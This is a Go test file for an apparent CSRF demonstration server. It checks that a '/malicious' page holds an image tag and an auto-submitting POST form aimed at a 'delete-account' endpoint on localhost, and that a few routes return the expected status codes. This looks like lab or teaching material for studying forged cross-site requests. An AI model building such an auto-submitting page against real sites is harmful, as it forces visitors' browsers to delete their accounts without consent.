package exploit

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/gin-gonic/gin"
)

func init() {
	gin.SetMode(gin.TestMode)
}

func TestMaliciousPage(t *testing.T) {
	const target = "http://127.0.0.1:5000/delete-account"
	r := NewHandler(target, nil).InitRoutes()

	w := httptest.NewRecorder()
	r.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/malicious", nil))
	if w.Code != http.StatusOK {
		t.Fatalf("status=%d", w.Code)
	}
	body := w.Body.String()
	for _, want := range []string{
		`<img src="` + target + `"`,
		`method="POST" action="` + target + `"`,
		`.submit()`,
	} {
		if !strings.Contains(body, want) {
			t.Fatalf("page missing %q:\n%s", want, body)
		}
	}
}

func TestRoutes(t *testing.T) {
	r := NewHandler("http://x/delete-account", nil).InitRoutes()

	tests := []struct {
		method, path string
		want         int
	}{
		{http.MethodGet, "/health", http.StatusOK},
		{http.MethodGet, "/", http.StatusNotFound},
		{http.MethodGet, "/delete-account", http.StatusNotFound},
	}
	for _, tc := range tests {
		w := httptest.NewRecorder()
		r.ServeHTTP(w, httptest.NewRequest(tc.method, tc.path, nil))
		if w.Code != tc.want {
			t.Fatalf("%s %s: status=%d, want %d", tc.method, tc.path, w.Code, tc.want)
		}
	}
}
